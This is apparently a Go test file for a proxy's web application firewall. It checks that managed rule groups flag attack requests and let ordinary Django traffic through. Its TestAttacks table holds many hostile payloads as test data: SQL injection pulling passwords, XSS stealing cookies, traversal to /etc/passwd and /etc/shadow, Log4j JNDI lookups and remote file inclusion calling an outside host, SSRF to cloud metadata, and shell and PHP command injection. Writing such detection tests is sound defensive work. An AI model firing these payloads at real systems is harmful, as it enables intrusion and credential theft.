package waf_test

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/evenkeel/evenkeel/proxy/internal/exchange"
	"github.com/evenkeel/evenkeel/proxy/internal/waf"
	"github.com/evenkeel/evenkeel/spec"
)

// client has a body and nothing else.
type client struct {
	exchange.Client
	body  io.Reader
	asked bool
	read  int
}

func (c *client) ReadBody(p []byte) (int, error) {
	n, err := c.body.Read(p)
	c.read += n
	return n, err
}

func (c *client) Buffered() (int, bool) {
	c.asked = true
	return 0, false
}

const firefox = "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0"

// browser is a request as a browser sends it.
func browser(target string, fields ...string) *exchange.Exchange {
	return request("192.0.2.1", target, append([]string{"Host", "www.example.com", "User-Agent", firefox, "Accept", "text/html,*/*;q=0.8"}, fields...)...)
}

// post is a browser's POST.
func post(target, contentType, body string, fields ...string) *exchange.Exchange {
	x := browser(target, append(fields, "Content-Type", contentType)...)
	x.Request.Method = []byte("POST")
	x.Request.ContentLength = int64(len(body))
	x.Client = &client{body: strings.NewReader(body)}
	return x
}

func chunked(x *exchange.Exchange) *exchange.Exchange {
	x.Request.ContentLength, x.Request.Chunked = exchange.Unknown, true
	x.Client.(*client).body = &dribble{x.Client.(*client).body}
	return x
}

// dribble reads a byte at a time.
type dribble struct{ io.Reader }

func (d *dribble) Read(p []byte) (int, error) { return d.Reader.Read(p[:min(len(p), 1)]) }

const (
	form = "application/x-www-form-urlencoded"
	json = "application/json"
)

func multipartOf(parts ...string) (contentType, body string) {
	var b strings.Builder
	for _, p := range parts {
		b.WriteString("--xyz\r\nContent-Disposition: form-data; " + p + "\r\n")
	}
	b.WriteString("--xyz--\r\n")
	return "multipart/form-data; boundary=xyz", b.String()
}

func part(name, value string) string { return fmt.Sprintf("name=%q\r\n\r\n%s", name, value) }

func file(name, filename, content string) string {
	return fmt.Sprintf("name=%q; filename=%q\r\nContent-Type: application/octet-stream\r\n\r\n%s", name, filename, content)
}

func postParts(parts ...string) *exchange.Exchange {
	contentType, body := multipartOf(parts...)
	return post("/upload/", contentType, body)
}

var everyGroup = []string{"common", "known_bad_inputs", "sqli", "php", "linux", "unix", "windows"}

// TestAttacks: what each group is for, and ways around it.
func TestAttacks(t *testing.T) {
	for name, c := range map[string]struct {
		group string
		x     *exchange.Exchange
	}{
		"sqli query":          {"sqli", browser("/items?id=1'+OR+'1'='1'+--+-")},
		"sqli union":          {"sqli", browser("/items?id=-1+UNION+SELECT+username,password+FROM+auth_user")},
		"sqli sleep":          {"sqli", browser("/items?id=1;SELECT+SLEEP(5)--")},
		"sqli encoded twice":  {"sqli", browser("/items?id=1%2527%2520OR%25201%253D1%2520--%2520")},
		"sqli form":           {"sqli", post("/login/", form, "username=admin'+or+1=1--+-&password=x")},
		"sqli form chunked":   {"sqli", chunked(post("/login/", form, "username=admin'+or+1=1--+-&password=x"))},
		"sqli json":           {"sqli", post("/api/", json, `{"user": {"name": ["1' OR '1'='1' -- "]}}`)},
		"sqli json escapes":   {"sqli", post("/api/", json, `{"name": "1\u0027 OR \u00271\u0027=\u00271\u0027 -- "}`)},
		"sqli json suffix":    {"sqli", post("/api/", "application/vnd.api+json", `{"name": "1' OR '1'='1' -- "}`)},
		"sqli json malformed": {"sqli", post("/api/", json, `{"a": 1,, "name": "1' UNION SELECT password FROM auth_user -- "}`)},
		"sqli no json":        {"sqli", post("/api/", json, `1' UNION SELECT password FROM auth_user -- `)},
		"sqli text":           {"sqli", post("/api/", "text/plain", `{"name": "1' UNION SELECT password FROM auth_user -- "}`)},
		"sqli no type":        {"sqli", post("/api/", "", `1' UNION SELECT password FROM auth_user -- `)},
		"sqli cookie":         {"sqli", browser("/", "Cookie", "a=b; q=1' UNION SELECT password FROM auth_user -- ")},
		"sqli multipart":      {"sqli", postParts(part("q", "1' UNION SELECT password FROM auth_user -- "))},
		"sqli before a file":  {"sqli", postParts(part("q", "1' UNION SELECT password FROM auth_user -- "), file("f", "a.bin", strings.Repeat("\x00\xff", 20000)))},
		"sqli open multipart": {"sqli", post("/", "multipart/form-data; boundary=xyz", "--xyz\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n1' UNION SELECT password FROM auth_user -- ")},
		"sqli long json":      {"sqli", post("/api/", json, `{"name": "1' UNION SELECT password FROM auth_user -- ", "pad": "`+strings.Repeat("x", 20000)+`"}`)},
		"sqli long form":      {"sqli", post("/login/", form, "username=admin'+or+1=1--+-&pad="+strings.Repeat("x", 20000))},
		"sqli xml":            {"sqli", post("/api/", "application/xml", `<a><b>1' UNION SELECT password FROM auth_user -- </b></a>`)},
		"sqli second type":    {"sqli", post("/login/", form, "username=admin'+or+1=1--+-", "Content-Type", "image/png")},
		"sqli list of types":  {"sqli", post("/login/", "image/png, "+form, "username=admin'+or+1=1--+-")},
		"sqli many arguments": {"sqli", post("/login/", form, strings.Repeat("a&", 1200)+"username=admin'+or+1=1--+-")},

		"xss query":     {"common", browser("/search?q=%3Cscript%3Ealert(1)%3C/script%3E")},
		"xss handler":   {"common", browser("/search?q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E")},
		"xss entities":  {"common", browser("/search?q=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B/script%26gt%3B")},
		"xss form":      {"common", post("/comment/", form, "text=%3Csvg%2Fonload%3Dalert(document.cookie)%3E")},
		"xss file name": {"common", postParts(file("f", "<script>alert(1)</script>.png", "x"))},
		"xss agent":     {"common", request("192.0.2.1", "/", "User-Agent", "<script>alert(1)</script>")},
		"lfi query":     {"common", browser("/download?file=../../../../etc/passwd")},
		"lfi encoded":   {"common", browser("/download?file=..%252f..%252f..%252fetc%252fpasswd")},
		"lfi form":      {"common", post("/download", form, "file=....%2F%2F....%2F%2Fetc%2Fpasswd")},
		"lfi .git":      {"common", browser("/.git/config")},
		"lfi .env":      {"common", browser("/.env")},
		"rfi":           {"common", browser("/page?include=http://203.0.113.9/shell.txt?")},
		"ssrf metadata": {"common", browser("/fetch?url=http://169.254.169.254/latest/meta-data/iam")},
		"scanner":       {"common", request("192.0.2.1", "/", "User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")},
		"no agent":      {"common", request("192.0.2.1", "/", "Host", "www.example.com")},
		"long query":    {"common", browser("/?q=" + strings.Repeat("x", 2100))},
		"long path":     {"common", browser("/" + strings.Repeat("x", 1100))},
		"long cookies":  {"common", browser("/", "Cookie", "a="+strings.Repeat("x", 5500), "Cookie", "b="+strings.Repeat("x", 5500))},
		"log4j header":  {"known_bad_inputs", browser("/", "X-Api-Version", "${jndi:ldap://203.0.113.9/a}")},
		"log4j hidden":  {"known_bad_inputs", browser("/?q=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D")},
		"log4j json":    {"known_bad_inputs", post("/api/", json, `{"user": "${jndi:rmi://203.0.113.9/a}"}`)},
		"java":          {"known_bad_inputs", browser("/?class=java.lang.Runtime")},
		"localhost":     {"known_bad_inputs", request("192.0.2.1", "/", "Host", "localhost:8000", "User-Agent", firefox)},
		"web-inf":       {"known_bad_inputs", browser("/a/WEB-INF/web.xml")},
		"php":           {"php", browser("/?x=%3C%3Fphp+system($_GET['c'])%3B")},
		"unix command":  {"unix", browser("/ping?host=127.0.0.1;cat+/etc/passwd")},
		"shellshock":    {"unix", browser("/", "Referer", "() { :; }; /bin/bash -c 'id'")},
		"powershell":    {"windows", browser("/run?c=powershell.exe+-Command+Get-Process")},
		"linux files":   {"linux", browser("/download?file=../../etc/shadow")},
	} {
		t.Run(name, func(t *testing.T) {
			f := compile(t, spec.WAF{Managed: everyGroup, ManagedAction: spec.WAFCount}, shared(t))
			before := f.Counts()
			if v := f.Judge(c.x); v.Outcome != waf.Allowed {
				t.Fatalf("%+v", v)
			}
			f.Release(c.x)
			for i, got := range f.Counts() {
				if got.Rule == spec.ManagedRuleGroups()[c.group] && got.Counted != before[i].Counted+1 {
					t.Errorf("%s finds nothing", c.group)
				}
			}
		})
	}
}

// shared is one firewall, so that its rules are compiled once for all tests.
func shared(t testing.TB) *waf.Firewall {
	t.Helper()
	if sharedFirewall == nil {
		sharedFirewall = compile(t, spec.WAF{Managed: everyGroup, ManagedAction: spec.WAFBlock}, nil)
	}
	return sharedFirewall
}

var sharedFirewall *waf.Firewall

const graphql = `{"query": "query Jobs($n: Int!) { jobs(first: $n) { edges { node { id name } } } }", "variables": {"n": 10}}`

const csrf = "csrfmiddlewaretoken=Zk3bXU0Qm1pW8sTq7cVvY2hN9eRdLfGa4oJiKxBuSwCtPz6H5yAnMlOgDrEjQ8vI"

// TestOrdinaryTraffic of a Django application passes every group.
func TestOrdinaryTraffic(t *testing.T) {
	cookies := "csrftoken=Zk3bXU0Qm1pW8sTq7cVvY2hN9eRdLfGa; sessionid=5yu8r2hfy3mnd7l0gqv4x1kz9wb6tcja; AWSALB=xI0Vbq+8tG/3Zk==; _ga=GA1.2.1234567890.1700000000"
	list := func(n int) string {
		var b strings.Builder
		for i := range n {
			fmt.Fprintf(&b, `{"id": %d, "title": "Sync job %d for O'Brien & Sons", "note": "Please select a date from the list; it's due -- thanks!", "tags": ["a/b", "c d"]},`, i, i)
		}
		return `{"items": [` + strings.TrimSuffix(b.String(), ",") + `]}`
	}
	for name, x := range map[string]*exchange.Exchange{
		"front page":    browser("/", "Cookie", cookies, "Accept-Language", "en-GB,en;q=0.5", "Referer", "https://www.example.com/accounts/login/?next=/"),
		"list":          browser("/jobs/?page=2&order_by=-created&status=done&q=weekly+report", "Cookie", cookies),
		"static":        browser("/static/admin/css/base.3f2a1b.css?v=1.2.3"),
		"health":        request("192.0.2.1", "/health/?check_celery=true", "Host", "10.0.0.1:8000", "User-Agent", "ELB-HealthChecker/2.0"),
		"login":         post("/accounts/login/", form, csrf+"&username=alice%40example.com&password=c0rrect-Horse%24battery&next=%2Fjobs%2F", "Cookie", cookies, "Origin", "https://www.example.com"),
		"next url":      browser("/accounts/login/?next=/jobs/12/edit/%3Ftab%3Dhistory"),
		"json":          post("/api/v1/jobs/", json, `{"name": "nightly sync", "schedule": "0 3 * * *", "enabled": true, "retries": 3, "owner": {"id": 7, "email": "o'brien@example.com"}}`, "X-CSRFToken", "Zk3bXU0Qm1pW8sTq7cVvY2hN9eRdLfGa", "Cookie", cookies),
		"long json":     post("/api/v1/import/", json, list(400)),
		"patch":         post("/api/v1/jobs/7/", "application/merge-patch+json", `{"enabled": false}`),
		"invalid json":  post("/api/v1/jobs/", json, `{"enabled": fals`),
		"token":         browser("/api/v1/me/", "Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2lnbmF0dXJl", "Accept", "application/json"),
		"upload":        postParts(part("csrfmiddlewaretoken", csrf), part("title", "Q3 report (final).pdf"), file("file", "Q3 report (final).pdf", "%PDF-1.7\n"+strings.Repeat("\x00\x01select * from <script>", 3000))),
		"small upload":  postParts(part("csrfmiddlewaretoken", csrf), file("avatar", "me.png", "\x89PNG\r\n\x1a\n\x00\x00")),
		"raw upload":    post("/upload/raw", "application/octet-stream", strings.Repeat("\x00'; select 1 --<script>", 2000)),
		"admin":         browser("/admin/auth/user/?q=alice&is_staff__exact=1&o=-2.1", "Cookie", cookies),
		"admin change":  post("/admin/jobs/job/7/change/", form, csrf+"&name=Weekly+report&description=Sums+up+the+week%27s+orders.%0D%0ASend+to+finance%40example.com.&start_0=2026-11-25&start_1=03%3A00%3A00&_save=Save", "Cookie", cookies, "Referer", "https://www.example.com/admin/jobs/job/7/change/"),
		"admin action":  post("/admin/jobs/job/", form, csrf+"&action=delete_selected&select_across=0&index=0&_selected_action=7&_selected_action=8", "Cookie", cookies),
		"comment":       post("/jobs/7/comments/", form, csrf+"&text=I+don%27t+think+so.+Let%27s+drop+it+and+select+another+one+%28see+%2312%29%3B+cost+%3C+5%25%21"),
		"search":        browser("/search/?q=O%27Reilly+union+square+%26+co"),
		"unicode":       browser("/search/?q=%E3%83%86%E3%82%B9%E3%83%88+caf%C3%A9"),
		"preflight":     browser("/api/v1/jobs/", "Origin", "https://app.example.com", "Access-Control-Request-Method", "PUT", "Access-Control-Request-Headers", "content-type,x-csrftoken"),
		"websocket":     browser("/ws/jobs/", "Connection", "Upgrade", "Upgrade", "websocket", "Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Version", "13"),
		"conditional":   browser("/jobs/7/", "If-None-Match", `W/"5f3c-abc"`, "If-Modified-Since", "Tue, 24 Nov 2026 15:04:05 GMT", "Range", "bytes=0-1023"),
		"long form":     post("/jobs/7/", form, csrf+"&text="+strings.Repeat("A+sentence+of+a+long+description.+", 600)),
		"empty body":    post("/jobs/7/run/", form, ""),
		"xml":           post("/feed/", "application/xml", `<?xml version="1.0"?><feed><entry id="1"><title>Tom &amp; Co</title></entry></feed>`),
		"curl":          request("192.0.2.1", "/api/v1/jobs/7/", "Host", "www.example.com", "User-Agent", "curl/8.5.0", "Accept", "*/*"),
		"python":        request("192.0.2.1", "/api/v1/jobs/7/", "Host", "www.example.com", "User-Agent", "python-requests/2.32.3", "Accept", "*/*"),
		"chunked form":  chunked(post("/jobs/7/comments/", form, csrf+"&text=fine")),
		"chunked plain": chunked(post("/hook/", "text/plain", "deploy of build 42 is done")),
	} {
		t.Run(name, func(t *testing.T) {
			f := shared(t)
			before := f.Counts()
			v := f.Judge(x)
			if v.Outcome != waf.Allowed {
				for i, c := range f.Counts() {
					if c.Blocked > before[i].Blocked {
						t.Errorf("%s blocks it: %+v", c.Rule, v)
					}
				}
			}
			f.Release(x)
		})
	}
}

// TestInspectionTakesTooLong: what is not judged in time is neither passed nor blocked here.
func TestInspectionTakesTooLong(t *testing.T) {
	f := compile(t, spec.WAF{Managed: []string{"sqli"}, ManagedAction: spec.WAFBlock}, nil)
	f.SetTimeout(0)
	x := request("192.0.2.1", "/?q=1")
	defer f.Release(x)
	if v := f.Judge(x); v.Outcome != waf.Failed || v.Reason != "WAFResponseReadTimeout" {
		t.Errorf("%+v", v)
	}
	f.SetTimeout(time.Hour)
	again := request("192.0.2.1", "/?q=1")
	defer f.Release(again)
	if v := f.Judge(again); v.Outcome != waf.Allowed {
		t.Errorf("%+v", v)
	}
}

// TestGraphQL passes the groups that are said to be fit for any application; the braces of its
// queries are a shell's to the Core Rule Set, as docs/reference/waf.md warns.
func TestGraphQL(t *testing.T) {
	f := compile(t, spec.WAF{Managed: []string{"common", "known_bad_inputs", "sqli"}, ManagedAction: spec.WAFBlock}, nil)
	x := post("/graphql/", json, graphql)
	defer f.Release(x)
	if v := f.Judge(x); v.Outcome != waf.Allowed {
		t.Errorf("%+v: %+v", v, f.Counts())
	}
}

// TestBodyGoesOn: what was read to be inspected reaches the target, and no more is read.
func TestBodyGoesOn(t *testing.T) {
	for _, size := range []int{1, 8191, 8192, 8193, 100_000} {
		for _, unknown := range []bool{false, true} {
			body := bytes.Repeat([]byte("0123456789abcdef"), size/16+1)[:size]
			x := post("/", form, string(body))
			c := x.Client.(*client)
			if unknown {
				x.Request.ContentLength = exchange.Unknown
			}
			f := shared(t)
			if v := f.Judge(x); v.Outcome != waf.Allowed {
				t.Fatalf("%d: %+v", size, v)
			}
			if !c.asked {
				t.Error("Buffered, which answers Expect: 100-continue, was not called")
			}
			if c.read > 8192 {
				t.Errorf("%d of %d bytes were read ahead", c.read, size)
			}
			n, whole := x.Client.Buffered()
			if wantWhole := !unknown && size <= 8192; n != min(size, 8192) || whole != wantWhole {
				t.Errorf("%d bytes: %d buffered, whole %t", size, n, whole)
			}
			var got []byte
			p := make([]byte, 1000)
			for {
				n, err := x.Client.ReadBody(p)
				got = append(got, p[:n]...)
				if errors.Is(err, io.EOF) {
					break
				}
				if err != nil {
					t.Fatal(err)
				}
			}
			if !bytes.Equal(got, body) {
				t.Errorf("%d bytes became %d", len(body), len(got))
			}
			if f.Release(x); x.Client != exchange.Client(c) {
				t.Error("the client is not given back")
			}
		}
	}
}

// TestUnreadBody: a client that does not send what it announced is not judged.
func TestUnreadBody(t *testing.T) {
	for err, status := range map[error]int{io.ErrUnexpectedEOF: 400, os.ErrDeadlineExceeded: 408} {
		x := post("/", form, "")
		x.Request.ContentLength = 100
		x.Client.(*client).body = io.MultiReader(strings.NewReader("a=b"), failing{err})
		if v := shared(t).Judge(x); v.Outcome != waf.Unread || v.Status != status {
			t.Errorf("%v: %+v", err, v)
		}
	}
}

type failing struct{ err error }

func (f failing) Read([]byte) (int, error) { return 0, f.err }

// TestGRPCIsNotWaitedFor: a stream may have nothing to send before it is answered.
func TestGRPCIsNotWaitedFor(t *testing.T) {
	x := post("/pkg.Service/Method", "application/grpc", "")
	x.Request.ContentLength, x.Request.Version = exchange.Unknown, exchange.HTTP2
	x.Client.(*client).body = failing{errors.New("read")}
	if v := shared(t).Judge(x); v.Outcome != waf.Allowed {
		t.Errorf("%+v", v)
	}
}

func TestGroupsWithoutCounterpart(t *testing.T) {
	for name := range spec.ManagedRuleGroups() {
		f, err := waf.Compile(&spec.Environment{WAF: spec.WAF{DefaultAction: spec.WAFAllow, Managed: []string{name}, ManagedAction: spec.WAFBlock}}, waf.Options{})
		if err != nil {
			t.Fatal(err)
		}
		if has := len(f.Counts()) == 2; has == spec.OnlyOnAWS(name) {
			t.Errorf("%s: there is a rule: %t; only on AWS: %t", name, has, spec.OnlyOnAWS(name))
		}
	}
}

func BenchmarkManaged(b *testing.B) {
	f := shared(b)
	for name, x := range map[string]*exchange.Exchange{"get": browser("/jobs/?page=2"), "worst query": browser("/?" + strings.Repeat("aaaa=bbbbbbbb&", 999))} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				f.Judge(x)
			}
		})
	}
	body := strings.Repeat("a=%3Cb+or+1&", 680)
	b.Run("worst form", func(b *testing.B) {
		for b.Loop() {
			x := post("/", form, body)
			f.Judge(x)
			f.Release(x)
		}
	})
}
